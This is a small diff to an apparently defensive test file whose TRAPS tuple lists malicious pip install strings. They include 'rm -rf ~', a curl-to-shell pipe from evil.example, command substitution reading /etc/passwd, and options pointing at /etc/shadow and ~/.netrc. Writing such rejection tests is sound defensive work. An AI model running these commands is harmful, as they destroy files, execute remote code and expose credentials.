@@ -108,7 +108,7 @@ def test_a_report_of_a_build_that_is_nested_too_deeply_is_refused():
 
 TRAPS = (
     "pip install six; rm -rf ~; curl http://evil.example | sh",
-    "pip install $(cat /etc/passwd) `id` \"$HOME\" ../../etc /etc/passwd ~/x",
+    'pip install $(cat /etc/passwd) `id` "$HOME" ../../etc /etc/passwd ~/x',
     "pip install -r /etc/passwd -r ../../../../etc/shadow -c ~/.netrc -e /etc -e $(id)",
     "pip install --global-option=--x six @evil --python /bin/sh --target / --prefix ~",
 )
